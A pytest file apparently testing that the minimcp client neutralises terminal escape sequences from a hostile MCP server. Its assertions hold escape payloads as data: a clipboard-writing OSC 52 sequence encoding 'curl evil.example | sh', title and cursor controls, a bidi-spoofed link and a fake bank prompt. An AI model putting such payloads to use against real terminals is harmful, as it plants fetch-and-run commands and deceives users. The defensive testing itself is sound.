"""``minimcp`` pointed at a hostile server (tests/servers/hostile_server.py): no escape sequence of
the server's reaches the terminal, whatever prints it (the question form on a real terminal, a
tool's answer, a log line, progress, an error, inspect's tables), and long lists stay readable.

The server runs in a process of its own: over stdio under the form, over HTTP for the rest.
"""

from __future__ import annotations

import json
import re
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest
from conftest import MODERN, ROOT, server_process
from terminal_support import Terminal
from test_cli import MINIMCP, minimcp

HOSTILE = ROOT / "tests" / "servers" / "hostile_server.py"
#: The form's own emphasis: the only escape sequences the screen may hold.
BOLD, RESET = "\x1b[1m", "\x1b[0m"
#: What a terminal obeys: C0 controls but newline and tab, DEL, C1, the bidi controls.
OBEYED = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]")


def assert_inert(text: str, *, pty: bool = False) -> None:
    """Nothing in ``text`` a terminal would act on, beyond the form's bold (and a pty's CR LF)."""
    text = text.replace(BOLD, "").replace(RESET, "")
    if pty:
        text = text.replace("\r\n", "\n")
    assert OBEYED.search(text) is None, repr(text)


@pytest.fixture(scope="module")
def url() -> Iterator[str]:
    with server_process([MINIMCP, "run", str(HOSTILE), "--http", "--port", "0"]) as served:
        yield f"{served.base}/mcp"


# --- the question form, on a real terminal -----------------------------------------------------------------
def answered_on_terminal(tool: str, steps: list[tuple[str, str]], env: dict[str, str] | None = None) -> str:
    """``minimcp call TOOL`` on a pty: wait for each text, type its keys; the screen, once it exited,
    checked to hold no escape sequence but the form's bold."""
    term = Terminal([MINIMCP, "call", tool, "--", sys.executable, str(HOSTILE)], env=env)
    try:
        for text, keys in steps:
            term.expect(text, timeout=60)
            term.type(keys)
        term.expect(f"{tool}: ")
        term.expect("\r\n")  # the whole line of the answer
        assert term.proc.wait(30) == 0
    finally:
        term.close()
    assert_inert(term.screen, pty=True)
    return term.screen.replace("\r\n", "\n")


def test_the_form_shows_no_escape_sequence_and_names_the_asker_truly() -> None:
    screen = answered_on_terminal("ask", [("Account", "\r"), ("Speed", "2\r"), ("Send?", "\r")])
    lines = screen.splitlines()
    assert lines[:3] == [f"Question from server {BOLD}EvilYour Bank{RESET}:", "Confirm the transfer", "to your bank."]
    assert "Account (optional): Where the money goes" in lines and "  [Enter = DE001234] > " in lines
    assert "  Speed: fast" in lines
    assert lines[-1] == "ask: transfer to DE001234 (fast) done"


def test_the_link_shown_is_the_link_opened_and_its_real_domain_is_named(tmp_path: Path) -> None:
    opened = tmp_path / "opened.txt"
    browser = tmp_path / "browser"
    browser.write_text(f"#!{sys.executable}\nimport sys\nopen({str(opened)!r}, 'w').write(sys.argv[1])\n")
    browser.chmod(0o755)
    screen = answered_on_terminal("pay", [("[y/n] > ", "y\r")], env={"BROWSER": str(browser)})
    shown = "https://evil.example/%1B[8D%E2%80%AEbank.example%1B]8;;x%07"
    assert f"\n  {shown}\n  domain: {BOLD}evil.example{RESET}\n" in screen
    assert screen.endswith("\npay: accept\n")
    assert opened.read_text() == shown


# --- what call and inspect print -----------------------------------------------------------------------------
def test_call_prints_the_answer_logs_and_progress_without_escape_sequences(url: str) -> None:
    done = minimcp("call", url, "shout")
    assert done.returncode == 0, done.stderr
    assert done.stdout == "resulttext\nsecond line\n"
    assert_inert(done.stdout + done.stderr)
    assert "[info] loggedline" in done.stderr.splitlines()
    assert any(line.endswith("1/2 halfway") for line in done.stderr.splitlines())


def test_errors_quote_the_server_without_its_escape_sequences(url: str) -> None:
    failed = minimcp("call", url, "fail")
    assert (failed.returncode, failed.stdout) == (1, "")
    assert failed.stderr == "Error executing tool fail: failedbadly\n"
    refused = minimcp("call", url, "refuse")
    assert refused.returncode == 2
    assert refused.stderr == f"minimcp: {url}: MCP error -32602: refusedcall\n"


def test_inspect_prints_no_escape_sequence_and_its_json_keeps_them_escaped(url: str) -> None:
    done = minimcp("inspect", url)
    assert done.returncode == 0, done.stderr
    assert_inert(done.stdout)
    assert done.stdout.splitlines()[:3] == [f"EvilYour Bank  (protocol {MODERN})", "Instructions: Trust me.",
                                            "Really."]
    as_json = minimcp("inspect", url, "--json")
    assert as_json.returncode == 0, as_json.stderr
    assert_inert(as_json.stdout)
    name = json.loads(as_json.stdout)["serverInfo"]["name"]
    assert name == ("Evil\x1b]0;pwned\x07\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x1b\\\x1b[1A\x1b[2K\r\x9b31m"
                    "\u202eYour Bank")  # nothing lost


# --- long lists and long answers -----------------------------------------------------------------------------
def test_inspect_cuts_a_long_enum_and_a_long_description_saying_how_much_more(url: str) -> None:
    done = minimcp("inspect", url)
    lines = done.stdout.splitlines()
    pick = next(line for line in lines if line.startswith("  pick "))
    cells = [cell.strip() for cell in pick.split("  ") if cell]
    assert cells[:3] == ["pick", 'model: "model_000"|"model_001"|"model_002"|…(+597 more), note?: string', "string"]
    assert cells[3].startswith("Pick a model. Very long words.") and cells[3].endswith("…(+5,013 characters)")
    assert len(pick) < 400
    assert lines[-1] == "…(+N) marks a text or a list cut short, N more left out; --json shows everything"
    tools = {tool["name"]: tool for tool in json.loads(minimcp("inspect", url, "--json").stdout)["tools"]}
    assert len(tools["pick"]["inputSchema"]["properties"]["model"]["enum"]) == 600


def test_a_long_answer_is_cut_with_a_note_and_full_prints_it_all(url: str) -> None:
    done = minimcp("call", url, "flood", "size=300000")
    assert done.returncode == 0, done.stderr
    assert done.stdout == ("x" * 99 + "\n") * 1000 + "\n"
    assert done.stderr == ("minimcp: the answer is cut after 100,000 characters, 200,001 more not shown: "
                           "--full prints all of it, --json the whole result as JSON\n")
    full = minimcp("call", url, "flood", "size=300000", "--full")
    assert (full.returncode, full.stderr) == (0, "")
    assert full.stdout == ("x" * 99 + "\n") * 3000 + "\n"
    whole = minimcp("call", url, "flood", "size=300000", "--json")
    assert json.loads(whole.stdout) == {"result": ("x" * 99 + "\n") * 3000}
